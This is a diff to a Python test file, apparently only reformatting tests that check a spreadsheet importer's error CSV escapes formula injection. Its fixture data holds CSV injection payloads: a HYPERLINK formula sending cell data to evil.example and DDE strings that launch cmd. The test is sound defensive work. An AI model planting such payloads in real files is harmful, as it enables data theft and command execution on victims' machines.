@@ -11,10 +11,10 @@ from tests.imports.conftest import IMPORT, confirm, upload, wait_done
 # a header and cells that a spreadsheet would run; the price cell makes each row fail
 FEED = (
     b'sku,=HYPERLINK("http://evil.example/?"&A1;"click"),price\r\n'
-    b'F-1,+cmd|\' /C calc\'!A0,not a number\r\n'
-    b'F-2,@SUM(1+1)*cmd|\' /C calc\'!A0,-x\r\n'
+    b"F-1,+cmd|' /C calc'!A0,not a number\r\n"
+    b"F-2,@SUM(1+1)*cmd|' /C calc'!A0,-x\r\n"
     b'"\tF-3","\rtrick",=1+2\r\n'
-    b'F-4,plain text,also bad\r\n'
+    b"F-4,plain text,also bad\r\n"
 )
 
 
@@ -25,14 +25,22 @@ async def test_errors_csv_cells_are_formula_safe(client, tenant, worker):
     headers = [c["header"] for c in job["columns"]]
     mapping = {headers[0]: "sku", headers[1]: "note", headers[2]: "price"}
     schema = [{"name": "note", "type": "string"}, {"name": "price", "type": "number"}]
-    assert (await confirm(client, tenant.editor, job, mapping=mapping, schema=schema)).status_code == 202
+    assert (
+        await confirm(client, tenant.editor, job, mapping=mapping, schema=schema)
+    ).status_code == 202
     done = await wait_done(client, tenant.editor, job["job_id"])
     assert done["status"] == "done" and done["failed"] == 4, done
 
     r = await client.get(f"{IMPORT}/{job['job_id']}/errors/", headers=tenant.viewer)
     assert r.status_code == 200, r.text
     table = list(csv.reader(io.StringIO(r.text, newline="")))
-    assert table[0] == ["sku", "'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "price", "row", "error"]
+    assert table[0] == [
+        "sku",
+        '\'=HYPERLINK("http://evil.example/?"&A1;"click")',
+        "price",
+        "row",
+        "error",
+    ]
     cells = [row[:3] for row in table[1:]]
     assert cells == [
         ["F-1", "'+cmd|' /C calc'!A0", "not a number"],
@@ -45,5 +53,19 @@ async def test_errors_csv_cells_are_formula_safe(client, tenant, worker):
 
 
 def test_formula_safe_leaves_other_values_alone():
-    assert [formula_safe(v) for v in ("a=b", "", " =x", 7, -3, None)] == ["a=b", "", " =x", 7, -3, None]
-    assert [formula_safe(v) for v in ("=", "+1", "-1", "@a", "\tx", "\rx")] == ["'=", "'+1", "'-1", "'@a", "'\tx", "'\rx"]
+    assert [formula_safe(v) for v in ("a=b", "", " =x", 7, -3, None)] == [
+        "a=b",
+        "",
+        " =x",
+        7,
+        -3,
+        None,
+    ]
+    assert [formula_safe(v) for v in ("=", "+1", "-1", "@a", "\tx", "\rx")] == [
+        "'=",
+        "'+1",
+        "'-1",
+        "'@a",
+        "'\tx",
+        "'\rx",
+    ]
